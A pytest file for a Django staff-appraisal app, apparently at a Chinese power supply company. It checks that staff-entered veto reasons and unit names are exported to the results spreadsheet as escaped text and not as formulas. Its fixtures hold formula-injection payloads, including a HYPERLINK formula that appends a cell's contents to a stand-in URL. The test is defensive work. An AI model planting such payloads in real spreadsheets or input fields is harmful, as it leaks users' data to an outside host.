"""The appraisal results workbook: whatever staff typed (a veto reason, a unit's name) is text
in the spreadsheet, never a formula."""

from __future__ import annotations

import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from evaluations import services
from tests.evaluations.conftest import enter_hearing

pytestmark = pytest.mark.django_db

REASON = '=HYPERLINK("http://x/?"&B3,"详情")'


def test_results_workbook_writes_typed_text_as_text(client, world, appraisal):
    supervisor = world.users["supervisor"]
    unit = appraisal.stations["东镇供电所"]
    unit.name = "@SUM(1+1)供电所"
    unit.save(update_fields=["name"])
    enter_hearing(appraisal, supervisor)
    campaign = services.campaign_start_scoring(campaign_id=appraisal.campaign.pk, actor=supervisor)
    participant = appraisal.participant("东镇供电所")
    services.participant_veto(participant_id=participant.pk, actor=supervisor, reason=REASON)
    services.campaign_publish(campaign_id=campaign.pk, actor=supervisor)

    response = client.get(reverse("evaluations:results_xlsx", args=[campaign.pk]))
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.content))
    formulas = [cell.coordinate for sheet in book for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    assert formulas == []
    (row,) = [row for row in book.worksheets[0].iter_rows(min_row=3) if row[8].value]
    station, reason = row[1], row[8]
    assert (station.value, station.data_type) == ("'@SUM(1+1)供电所", "s")
    assert (reason.value, reason.data_type) == ("'" + REASON, "s")
